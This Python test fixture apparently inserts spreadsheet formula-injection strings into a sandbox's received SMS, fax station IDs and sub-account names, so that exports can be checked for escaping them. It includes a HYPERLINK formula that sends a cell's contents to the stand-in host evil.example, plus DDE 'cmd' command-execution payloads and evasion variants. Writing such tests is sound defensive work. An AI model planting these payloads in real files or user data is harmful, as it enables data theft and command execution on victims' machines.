"""Text from strangers that a spreadsheet could run as a formula, put where strangers put it:
the SMS text of received messages, the fax station ID (CSID) of received faxes, and names of
sub-accounts, in a sandbox's database (so the app reads them over HTTP like any other row).
"""

from __future__ import annotations

import datetime as dt
from typing import Any
from zoneinfo import ZoneInfo

#: Cell texts a spreadsheet would read as a formula (or that XLSX would mistake for one).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A2,"Refund")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "-cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bcmd",  # full-width +
    "\uff0d1+2",  # full-width -
    "\uff20SUM(A1)",  # full-width @
)
#: A carriage return first: spreadsheets drop it and read the formula. (Not in the sandbox's
#: rows: its CSV writer does not quote a lone carriage return, which then ends the row.)
CARRIAGE_RETURN = "\r=1+1"
#: Texts that are not formulas and must come back exactly (also from XLSX).
HARMLESS = ("Refund due", "'quoted", "#N/A", "1+1=2", "a,b;c\"d")
#: Every hostile text, as an SMS would carry it (the ASCII type).
TEXTS = FORMULAS + HARMLESS
#: IDs of the rows added (above the demo data's).
FIRST_ID = 9_000_000
#: A message with a character XML (so XLSX) cannot hold: it must not stop the export.
BELL = "bell \x07 =1+1"


def _ascii(text: str) -> str:
    """``text`` as an ``ASCII`` SMS carries it (new lines and backslashes escaped)."""
    return text.replace("\\", "\\\\").replace("\n", "\\n")


def _u16(text: str) -> str:
    """``text`` as a ``U16`` SMS carries it (hex of UTF-16 big-endian)."""
    return text.encode("utf-16-be").hex().upper()


def add_hostile_rows(sandbox: Any, user: str = "demo") -> dt.date:
    """Add hostile received SMS and faxes (yesterday in the account's zone, one a minute
    from 10:00) and a sub-account whose name (first name and alias) is ``TEXTS[0]``; every
    added row belongs to it. Returns the day. SMS ``FIRST_ID + i`` holds ``TEXTS[i]``
    (ASCII), then come the formulas again as U16 and :data:`BELL`; fax ``FIRST_ID + i`` has
    the station ID ``TEXTS[i]``."""
    with sandbox.db.transaction() as conn:
        account, zone = conn.execute(
            "SELECT id, timezone FROM accounts WHERE username = ?", (user,)).fetchone()
        day = sandbox.today_for(zone) - dt.timedelta(days=1)
        start = dt.datetime.combine(day, dt.time(10), ZoneInfo(zone))
        cur = conn.execute(
            "INSERT INTO subaccounts (account_id, alias, email, first_name, last_name,"
            " company, fax_headline) VALUES (?, ?, 'x@example.com', ?, '', 'C', 'Z')",
            (account, TEXTS[0], TEXTS[0]))
        sub = cur.lastrowid
        messages = [("ASCII", _ascii(t)) for t in TEXTS]
        messages += [("U16", _u16(t)) for t in FORMULAS] + [("ASCII", BELL)]
        for i, (kind, message) in enumerate(messages):
            ts = int((start + dt.timedelta(minutes=i)).timestamp())
            conn.execute(
                "INSERT INTO log_smsin VALUES (?, ?, ?, ?, '+61400000000', '61298765432',"
                " ?, ?)", (FIRST_ID + i, account, ts, sub, kind, message))
        for i, station in enumerate(TEXTS):
            ts = int((start + dt.timedelta(minutes=i)).timestamp())
            conn.execute(
                "INSERT INTO log_faxin VALUES (?, ?, ?, ?, '-61298765432', '61298765432',"
                " ?, 2, 14400, 65)", (FIRST_ID + i, account, ts, sub, station))
    return day
